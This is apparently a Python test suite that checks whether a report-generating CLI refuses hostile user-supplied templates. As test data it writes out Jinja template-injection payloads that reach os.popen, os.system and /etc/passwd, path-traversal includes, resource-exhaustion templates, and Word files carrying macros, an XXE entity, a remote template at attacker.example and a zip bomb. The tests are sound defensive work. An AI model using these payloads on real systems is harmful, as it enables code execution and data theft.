"""Templates from outside are untrusted: they can shape the brief, never read, run or hang.

Each hostile template goes through ``briefer make --templates``: the run must stop with a
clear message naming the template, exit 1, write nothing, and leave yesterday's brief as it
was; nothing from outside the templates folder may appear anywhere.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx
import pytest
from typer.testing import CliRunner

from briefer.cli import app
from briefer.render import template_bytes

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "inputs"
runner = CliRunner()
SECRET = "OSPREY-4410-SECRET"


def run(*args: str | Path) -> tuple[int, str]:
    result = runner.invoke(app, [str(a) for a in args])
    return result.exit_code, result.output


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.j2"
    path.write_text(SECRET, encoding="utf-8")
    return path


def refused(tmp_path: Path, template: str | None = None, word: bytes | None = None) -> str:
    """Run make with a hostile template; check it is refused and nothing written; the output."""
    folder = tmp_path / "house"
    folder.mkdir(exist_ok=True)
    if template is not None:
        (folder / "brief.md.j2").write_text(template, encoding="utf-8")
    if word is not None:
        (folder / "brief.docx").write_bytes(word)
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    (out / "brief.md").write_bytes(b"yesterday\n")
    (out / "brief.docx").write_bytes(b"yesterday's word file")
    code, output = run("make", SAMPLE, "-o", out, "--templates", folder, "-f", "md", "-f", "docx")
    assert code == 1, output
    assert "Traceback" not in output
    assert "Nothing was written" in output or "brief" in output
    assert sorted(p.name for p in out.iterdir()) == ["brief.docx", "brief.md"]
    assert (out / "brief.md").read_bytes() == b"yesterday\n"
    assert (out / "brief.docx").read_bytes() == b"yesterday's word file"
    assert SECRET not in output and "root:x:0:0" not in output
    return output


@pytest.mark.parametrize(
    "template, says",
    [
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "__class__"),
        ("{{ title.__class__.__base__ }}", "__class__"),
        ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "__init__"),
        ("{{ joiner.__init__.__globals__ }}", "__init__"),
        ("{{ lipsum.__globals__['os'].system('touch pwned') }}", "__globals__"),
        ("{{ namespace.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}", "unsafe"),
        ("{{ key_points.__class__.__mro__ }}", "__class__"),
        ("{% for s in sources %}{{ s.__class__.__init__.__globals__ }}{% endfor %}", "unsafe"),
        ("{{ self.__init__.__globals__ }}", "__init__"),
        ("{{ config.items() }}", "config"),
        ("{{ request.application }}", "request"),
        ("{% for k in key_points %}{{ k.__dict__ }}{% endfor %}", "__dict__"),
        ("{{ (title|attr('__class__')).__mro__ }}", "__class__"),
        ("{{ ''.format.__globals__ }}", "unsafe"),
    ],
)
def test_python_internals_are_refused(tmp_path: Path, template: str, says: str) -> None:
    output = refused(tmp_path, "# {{ title }}\n" + template + "\n")
    assert "brief.md.j2" in output and says in output
    assert not (Path.cwd() / "pwned").exists()


@pytest.mark.parametrize(
    "template",
    [
        "{% include '/etc/passwd' %}",
        "{% include '../../../../../../../../etc/passwd' %}",
        "{% include '../secret.j2' %}",
        "{% import '/etc/hostname' as h %}",
        "{% extends '/etc/passwd' %}",
    ],
)
def test_templates_cannot_read_files_outside_their_folder(
    tmp_path: Path, secret: Path, template: str
) -> None:
    output = refused(tmp_path, template)
    assert "plain file name" in output


def test_a_symlink_in_the_templates_folder_cannot_lead_out(tmp_path: Path, secret: Path) -> None:
    folder = tmp_path / "house"
    folder.mkdir()
    (folder / "part.j2").symlink_to(secret)
    output = refused(tmp_path, "{% include 'part.j2' %}")
    assert "leads outside the templates folder" in output


@pytest.mark.parametrize(
    "template, says",
    [
        (
            "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
            "loops ran more than",
        ),
        ("{{ 'x' * 1000000000 }}", "too large"),
        ("{{ [1, 2] * 900000000 }}", "too large"),
        ("{{ 9 ** 999999 }}", "exponent"),
        ("{% for a in range(100000) %}{{ '%0100d' % a }}{% endfor %}", "printed more than"),
        ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "itself without end"),
        ("{% include 'brief.md.j2' %}", "itself without end"),
        ("{{ range(10**9)|list }}", "range"),
    ],
)
def test_templates_cannot_hang_or_exhaust_memory(tmp_path: Path, template: str, says: str) -> None:
    output = refused(tmp_path, template)
    assert says in output


def test_a_well_behaved_template_still_works(tmp_path: Path) -> None:
    folder = tmp_path / "house"
    folder.mkdir()
    (folder / "brief.md.j2").write_text(
        "# {{ title }}\n{% for p in key_points %}* {{ p.text }} {{ p.cites }}\n{% endfor %}"
        "{% for i in range(3) %}{{ i }}{% endfor %} {{ 'ab' * 3 }} {{ 2 ** 10 }}\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    code, output = run("make", SAMPLE, "-o", out, "--templates", folder, "-f", "md")
    assert code == 0, output
    text = (out / "brief.md").read_text(encoding="utf-8")
    assert text.startswith("# ") and "012 ababab 1024" in text


# --- Word templates ---------------------------------------------------------------------------


def _default_docx_with(extra: dict[str, bytes], change: dict[str, bytes] | None = None) -> bytes:
    """The default Word template with parts added or changed."""
    source = zipfile.ZipFile(io.BytesIO(template_bytes("brief.docx")))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = (change or {}).get(info.filename, source.read(info))
            target.writestr(info, data)
        for name, data in extra.items():
            target.writestr(name, data)
    return out.getvalue()


def _patched(name: str, patch: tuple[bytes, bytes]) -> bytes:
    data = zipfile.ZipFile(io.BytesIO(template_bytes("brief.docx"))).read(name)
    assert patch[0] in data
    return _default_docx_with({}, {name: data.replace(*patch, 1)})


def test_a_word_template_with_macros_is_refused(tmp_path: Path) -> None:
    word = _default_docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro code"})
    output = refused(tmp_path, word=word)
    assert "holds macros" in output and "brief.docx" in output


def test_a_macro_enabled_content_type_is_refused(tmp_path: Path) -> None:
    word = _patched(
        "[Content_Types].xml",
        (b"document.main+xml", b"document.macroEnabled.main+xml"),
    )
    output = refused(tmp_path, word=word)
    assert "macro" in output


def test_a_word_template_with_an_external_entity_is_refused(tmp_path: Path, secret: Path) -> None:
    word = _patched(
        "word/styles.xml",
        (b"?>", f'?><!DOCTYPE w:styles [<!ENTITY x SYSTEM "file://{secret}">]>'.encode()),
    )
    output = refused(tmp_path, word=word)
    assert "DOCTYPE" in output


def test_a_word_template_fetching_a_remote_template_is_refused(tmp_path: Path) -> None:
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    word = _default_docx_with({"word/_rels/settings.xml.rels": rels})
    output = refused(tmp_path, word=word)
    assert "attacker.example" in output and "attachedTemplate" in output


def test_a_word_template_zip_bomb_is_refused(tmp_path: Path) -> None:
    from test_bad_inputs import zip_bomb

    output = refused(tmp_path, word=zip_bomb(parts=1))
    assert "expands to 1024 MB" in output


def test_a_restyled_word_template_is_still_accepted(tmp_path: Path) -> None:
    document = docx.Document(io.BytesIO(template_bytes("brief.docx")))
    document.styles["Normal"].font.name = "Caladea"
    folder = tmp_path / "house"
    folder.mkdir()
    document.save(folder / "brief.docx")
    out = tmp_path / "out"
    code, output = run("make", SAMPLE, "-o", out, "--templates", folder, "-f", "docx")
    assert code == 0, output
    assert docx.Document(out / "brief.docx").paragraphs
